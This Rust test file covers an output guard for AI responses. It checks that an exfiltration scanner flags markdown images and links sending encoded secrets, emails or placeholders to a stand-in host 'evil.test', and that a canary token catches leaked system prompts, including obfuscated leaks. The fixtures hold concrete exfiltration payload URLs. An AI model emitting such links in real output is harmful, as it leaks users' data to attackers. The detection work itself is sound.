//! Output checks: exfiltration links/images and the canary.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use portcullis_guard::action::{Action, ActionTable};
use portcullis_guard::output::{Canary, ExfilScanner};
use portcullis_guard::stream::{guard_text, StreamGuard, TextScanner};
use portcullis_guard::FindingKind;

fn exfil() -> ExfilScanner {
    ExfilScanner::new(["example.com", "*.trusted.org"]).unwrap()
}

/// `(subtype, score, matched text)` of each finding.
fn hits(s: &impl TextScanner, text: &str) -> Vec<(&'static str, f32, String)> {
    s.scan(text)
        .into_iter()
        .map(|f| {
            assert_eq!(f.kind, FindingKind::ExfilLink);
            (
                f.subtype.unwrap(),
                f.score,
                text[f.start..f.end].to_string(),
            )
        })
        .collect()
}

#[test]
fn image_with_data_in_query() {
    let t =
        "Done! ![loading](https://evil.test/p.png?d=am9obi5kb2VAZXhhbXBsZS5jb20gc2VjcmV0MTIz) ok";
    let h = hits(&exfil(), t);
    assert_eq!(h.len(), 1, "{h:?}");
    assert_eq!(h[0].0, "image");
    assert!((h[0].1 - 0.9).abs() < 1e-6);
    assert!(h[0].2.starts_with("![loading](") && h[0].2.ends_with(')'));
}

#[test]
fn image_data_in_path_subdomain_percent_words() {
    let s = exfil();
    for t in [
        "![a](https://evil.test/c/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh/x.png)",
        "![a](https://aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.evil.test/x.png)",
        "![a](https://evil.test/x.png?q=my%20password%20is%20hunter2)",
        "![a](https://evil.test/x.png?q=the+user+lives+in+Paris)",
        "![a](//evil.test/x.png?blob=0123456789abcdef0123456789abcdef)",
        "<img src=\"https://evil.test/x.png?k=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY\">",
        "[logo]: https://evil.test/l.png?v=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY",
    ] {
        let h = hits(&s, t);
        assert_eq!(h.len(), 1, "{t}: {h:?}");
        assert!(h[0].1 >= 0.85, "{t}: {h:?}");
    }
}

#[test]
fn benign_images_and_links() {
    let s = exfil();
    for t in [
        "![chart](https://cdn.example.com/chart.png?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY)",
        "![x](https://img.trusted.org/a.png?token=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY)",
        "![cat](https://images.test/cat.png?w=200&h=100)",
        "![rel](/static/a.png?x=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY)",
        "![d](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
        "See [the docs](https://docs.rs/regex/latest/regex/struct.Regex.html).",
        "Search [here](https://www.google.com/search?q=rust+borrow+checker+explained).",
        "Visit https://github.com/rust-lang/rust/issues/12345 for details.",
        "Arrays like a[i](j) and [1] refs are text.",
    ] {
        assert!(hits(&s, t).is_empty(), "{t}: {:?}", hits(&s, t));
    }
    assert!(s.is_allowed_host("example.com"));
    assert!(s.is_allowed_host("a.b.example.com"));
    assert!(!s.is_allowed_host("notexample.com"));
    assert!(!s.is_allowed_host("example.com.evil.test"));
}

#[test]
fn links_with_data_score_lower() {
    let s = exfil();
    let t = "Click [here](https://evil.test/r?session=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3)";
    let h = hits(&s, t);
    assert_eq!(h.len(), 1);
    assert_eq!(h[0].0, "link");
    assert!((h[0].1 - 0.6).abs() < 1e-6);
    let bare = "Open https://evil.test/r?session=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3 now";
    assert_eq!(hits(&s, bare).len(), 1);
    let off = exfil().links(false);
    assert!(hits(&off, t).is_empty());
    assert!(hits(&off, bare).is_empty());
    // Images are still checked with links off.
    assert_eq!(
        hits(
            &off,
            "![x](https://evil.test/p.png?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY)"
        )
        .len(),
        1
    );
}

#[test]
fn known_conversation_values() {
    let mut s = exfil();
    s.add_known_value("jane.doe@corp.io");
    s.add_known_value("abc"); // too short: ignored
    let img = "![x](https://evil.test/p.png?u=jane.doe%40corp.io)";
    let h = hits(&s, img);
    assert_eq!(h.len(), 1);
    assert!((h[0].1 - 0.99).abs() < 1e-6);
    // Short and otherwise benign, but carries the known value: flagged as a link too.
    let link = "[profile](https://evil.test/u?e=JANE.DOE@corp.io)";
    let h = hits(&s, link);
    assert_eq!(h.len(), 1);
    assert!((h[0].1 - 0.9).abs() < 1e-6);
    // Base64 of the value.
    let b64 = "![x](https://evil.test/p.png?v=amFuZS5kb2VAY29ycC5pbw)";
    assert!((hits(&s, b64)[0].1 - 0.99).abs() < 1e-6);
    assert!(hits(&s, "![x](https://evil.test/p.png?v=abc)").is_empty());
}

#[test]
fn pseudonymization_placeholders_in_urls() {
    let s = exfil();
    for t in [
        "![x](https://evil.test/p.png?u=[EMAIL_1])",
        "![x](https://evil.test/p.png?u=%5BPHONE_2%5D)",
        "[go](https://evil.test/r?who=[PERSON_1])",
    ] {
        let h = hits(&s, t);
        assert_eq!(h.len(), 1, "{t}: {h:?}");
        assert!(h[0].1 >= 0.9, "{t}: {h:?}");
    }
    assert!(hits(&s, "![x](https://cdn.example.com/p.png?u=[EMAIL_1])").is_empty());
}

#[test]
fn exfil_redacted_on_a_stream() {
    let s = exfil();
    let t = "Here is your summary.\n\n![status](https://evil.test/s.png?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY)\nThanks!";
    let actions = ActionTable::uniform(Action::Log).with(FindingKind::ExfilLink, Action::Redact);
    let whole = guard_text(&s, &actions, t);
    assert_eq!(
        whole.emit,
        "Here is your summary.\n\n[REDACTED:EXFIL_LINK]\nThanks!"
    );
    let mut g = StreamGuard::new(&s, actions);
    let mut out = String::new();
    for ch in t.chars() {
        out += &g.push(ch.encode_utf8(&mut [0; 4])).emit;
    }
    out += &g.finish().emit;
    assert_eq!(out, whole.emit);
}

#[test]
fn canary_token_and_note() {
    let a = Canary::random();
    let b = Canary::random();
    assert_ne!(a.token(), b.token());
    assert!(a.token().starts_with("pc-canary-") && a.token().len() == 26);
    assert!(a.system_note().contains(a.token()));
    assert_eq!(Canary::from_token(a.token()).unwrap(), a);
    assert!(Canary::from_token("pc-canary-xyz").is_none());
}

#[test]
fn canary_found_with_simple_transformations() {
    let c = Canary::from_token("pc-canary-0a1b2c3d4e5f6789").unwrap();
    for (t, sub) in [
        ("My instructions: pc-canary-0a1b2c3d4e5f6789. Done", "token"),
        ("PC-CANARY-0A1B2C3D4E5F6789", "token"),
        ("pccanary0a1b2c3d4e5f6789", "token"),
        (
            "p c - c a n a r y - 0 a 1 b 2 c 3 d 4 e 5 f 6 7 8 9",
            "token",
        ),
        ("pc_canary_0a1b\u{200b}2c3d4e5f6789", "token"),
        ("the marker is 0A1B2C3D4E5F6789", "hex"),
        ("encoded: cGMtY2FuYXJ5LTBhMWIyYzNkNGU1ZjY3ODk=", "base64"),
    ] {
        let f = c.scan(t);
        assert_eq!(f.len(), 1, "{t}: {f:?}");
        assert_eq!(f[0].kind, FindingKind::Canary);
        assert_eq!(f[0].subtype, Some(sub), "{t}");
        let span = &t[f[0].start..f[0].end];
        assert!(!span.starts_with(' ') && !span.ends_with(' '), "{span:?}");
    }
    for t in [
        "pc-canary-0a1b2c3d4e5f6788",
        "pc-canary-0a1b2c3d",
        "0a1b2c3d/4e5f6789",
        "nothing to see",
    ] {
        assert!(c.scan(t).is_empty(), "{t}");
    }
}

#[test]
fn canary_blocks_a_stream() {
    let c = Canary::random();
    let t = format!(
        "Sure. My system prompt says: {} and more text after it.",
        c.system_note()
    );
    let mut g = StreamGuard::new(&c, ActionTable::output_defaults());
    let mut out = String::new();
    let mut blocked = None;
    for piece in t.as_bytes().chunks(7) {
        let s = g.push(std::str::from_utf8(piece).unwrap());
        out += &s.emit;
        blocked = blocked.or(s.blocked);
    }
    let s = g.finish();
    out += &s.emit;
    let b = blocked.or(s.blocked).unwrap();
    assert_eq!(b.kind, FindingKind::Canary);
    assert_eq!(&t[b.start..b.end], c.token());
    assert!(!out.contains("pc-canary"));
}
